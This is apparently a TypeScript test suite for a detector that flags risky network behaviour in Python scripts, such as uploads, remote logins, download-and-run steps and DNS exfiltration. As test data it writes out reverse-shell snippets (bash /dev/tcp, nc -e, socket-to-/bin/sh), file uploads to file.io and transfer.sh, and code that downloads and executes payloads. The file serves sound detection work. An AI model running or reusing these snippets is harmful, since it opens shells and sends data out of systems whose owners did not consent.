import { suite } from 'uvu';
import * as assert from 'uvu/assert';
import { analyse } from '../../helpers/behaviour.ts';
import { finds, findsCommand, silent, silentCommand } from '../../helpers/rules.ts';

const test = suite('network, written differently');

function hosts(text: string): readonly string[] {
  return analyse(text).hosts.map(({ host, direction }) => `${host} ${direction}`);
}

test('a reserved name is an example where it is named, and a host where it is contacted', () => {
  assert.equal(hosts('import pandas as pd\npd.read_csv("https://bi.shop.example/a.csv")'), [
    'bi.shop.example download',
  ]);
  assert.equal(hosts('import requests\nrequests.post("http://198.51.100.23/x", data=d)'), [
    '198.51.100.23 upload',
  ]);
  assert.equal(hosts('DOCS = "https://shop.example/help"\nprint("see https://shop.example")'), []);
  assert.equal(
    hosts('NS = "http://www.w3.org/2001/XMLSchema"\nS = "https://www.googleapis.com/auth/drive"'),
    [],
  );
});

test('hosts of commands', () => {
  assert.equal(hosts('import os\nos.system("curl -F f=@a.pdf file.io")'), ['file.io upload']);
  assert.equal(hosts('import os\nos.system("curl -T a.zip https://transfer.sh/a.zip")'), [
    'transfer.sh upload',
  ]);
  assert.equal(hosts('import os\nos.system("curl -o out.csv $URL")\nos.system("wget data.csv")'), []);
  assert.equal(
    hosts('import os\ndef get(u):\n    os.system("wget " + u)\nget("https://a.shop-site.com/x")'),
    ['a.shop-site.com download'],
  );
});

test('each library that logs in is a fact', () => {
  const messages = analyse(
    'import winrm, fabric\nwinrm.Session("a")\nwinrm.Session("b")\nfabric.Connection("c")',
  ).findings.flatMap(({ rule, line }) => (rule === 'PYS-NET-011' ? [line] : []));
  assert.equal(messages, [2, 4]);
  findsCommand(
    'PYS-NET-011',
    'sudo ssh h uptime',
    'sshpass -p x ssh h',
    'powershell Invoke-Command -ComputerName h {x}',
    'cd /x && scp a h:',
  );
  silentCommand(
    'PYS-NET-011',
    'ssh-keygen -t ed25519',
    'ls ssh',
    'powershell Invoke-Command { Get-Date }',
    'rsync -a C:\\a D:\\b',
  );
});

test('shells for others', () => {
  finds(
    'PYS-NET-008',
    'import asyncio\nasync def go():\n    r, w = await asyncio.open_connection(h, 1)\n    line = (await r.readline()).decode()\n    await asyncio.create_subprocess_shell(line)',
    'import socket, subprocess\ns = socket.socket()\ns.connect((h, 1))\nsubprocess.Popen(["/bin/sh"], stdin=s, stdout=s)',
    'import socket\ns = socket.socket()\nexec(s.recv(1024))',
    'import socket, subprocess\ns = socket.create_connection(a)\np = subprocess.Popen(["/bin/sh"], stdin=subprocess.PIPE)\np.stdin.write(s.recv(1024))',
    'cmd = "bash -i >& /dev/tcp/203.0.113.5/4444 0>&1"',
  );
  findsCommand('PYS-NET-008', 'nc -e /bin/sh 203.0.113.5 4444', 'ncat 203.0.113.5 4444 --exec cmd.exe');
  silent(
    'PYS-NET-008',
    'import socket, subprocess\na, b = socket.socketpair()\nsubprocess.Popen(args, stdin=a)',
    'import socket, subprocess\ns = socket.create_connection(a)\np = subprocess.Popen(["ssh", h], stdout=subprocess.PIPE)\nn = s.recv(4)\np.stdout.read(int(n))',
    'import socket, subprocess\ns = socket.create_connection(a)\np = subprocess.Popen(command, stdin=subprocess.PIPE)\np.stdin.write(s.recv(4))',
  );
  silentCommand('PYS-NET-008', 'nc -zv db.corp.local 5432', 'echo > /dev/null');
});

test('programs that are downloaded and started', () => {
  finds(
    'PYS-NET-016',
    'import urllib.request, os\nurllib.request.urlretrieve(u, "C:/x/setup.exe")\nos.startfile("C:/x/setup.exe")',
    'import requests, subprocess\np = tmp()\nwith open(p, "wb") as f:\n    f.write(requests.get(u).content)\nsubprocess.run([p, "/S"])',
    'import importlib.util\nfrom urllib.request import urlopen\npath = tmp()\nwith urlopen(u) as src, open(path, "wb") as dst:\n    dst.write(src.read())\nspec = importlib.util.spec_from_file_location("x", path)',
    'import os\nos.system("curl -o /opt/tool.sh https://get.tool-site.io/x")\nos.system("sh /opt/tool.sh")',
    'from pathlib import Path\nimport httpx, subprocess, sys\np = Path("plugin.py")\np.write_text(httpx.get(u).text)\nsubprocess.run([sys.executable, p])',
  );
  silent(
    'PYS-NET-016',
    'import requests, os\nopen("rates.xlsx", "wb").write(requests.get(u).content)\nos.startfile("rates.xlsx")',
    'import requests, subprocess\nopen("a.csv", "wb").write(requests.get(u).content)\nsubprocess.run(["import.exe", "--now"])',
    'import requests, os\nos.write(1, requests.get(u).content)\nprint(os.path.exists(requests.get(u).text))',
    'import requests, subprocess\nrequests.get(u)\nsubprocess.run(["git", "pull"])',
  );
});

test('data in looked-up names', () => {
  finds(
    'PYS-NET-017',
    'import socket, binascii\nsocket.gethostbyname(binascii.hexlify(d).decode() + ".x.shop-site.com")',
  );
  silent(
    'PYS-NET-017',
    'import socket\nsocket.gethostbyname("www.shop-site.com")\nfor h in hosts:\n    socket.gethostbyname(f"{h}.corp.local")',
  );
});

test('mail and FTP by commands', () => {
  findsCommand('PYS-NET-009', 'mail -s report boss@corp.local < r.txt', 'powershell Send-MailMessage -To x');
  findsCommand('PYS-NET-010', 'ftp -n ftp.partner-site.com', 'curl ftp://ftp.partner-site.com/a');
  silentCommand('PYS-NET-0', 'ls mail', 'sendmail-stats');
});

test('a script without a way out contacts no host that it names', () => {
  const listing =
    'for link in ["https://www.linkedin.com/in/x", "https://pastebin.com/x"]:\n    print(len(link))';
  assert.equal(hosts(`from urllib.parse import urlsplit\n${listing}`), []);
  assert.equal(hosts(`from urllib.request import urlopen\n${listing}`), [
    'www.linkedin.com named',
    'pastebin.com named',
  ]);
  assert.equal(hosts(`import helpers\n${listing}`), ['www.linkedin.com named', 'pastebin.com named']);
  // Settings are read by others.
  assert.equal(hosts('URL = "https://pastebin.com/x"'), ['pastebin.com named']);
});

test('a command that writes an address into a setting contacts nothing', () => {
  const add = 'reg add HKCU\\\\Software\\\\X /v 1 /d "a;https://clients2.google.com/service/update2/crx" /f';
  assert.equal(hosts(`import os\nos.system('${add}')`), []);
});

test('an application that Gradio shares has an address on the internet', () => {
  finds('PYS-NET-012', 'import gradio as gr\ngr.Interface(f, "text", "text").launch(share=True)');
  silent('PYS-NET-012', 'import gradio as gr\ngr.Interface(f, "text", "text").launch(share=False)');
});

test.run();
